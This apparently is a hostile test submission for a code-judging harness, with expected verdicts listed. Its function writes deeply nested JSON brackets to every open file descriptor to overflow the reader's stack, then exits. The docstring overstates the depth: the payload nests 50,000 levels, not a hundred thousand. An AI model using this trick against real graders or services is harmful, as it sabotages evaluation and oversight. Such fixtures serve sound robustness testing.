"""Sends JSON that is nested a hundred thousand deep, to break the reader's stack."""
# kind: function
# verdicts: RE, WA, OLE, SV

import os
import struct

PAYLOAD = b"[" * 50_000 + b"]" * 50_000


def f(x):
    for fd in range(3, 256):
        try:
            os.set_blocking(fd, False)
            os.write(fd, struct.pack(">I", len(PAYLOAD)) + PAYLOAD)
        except OSError:
            pass
    os._exit(0)
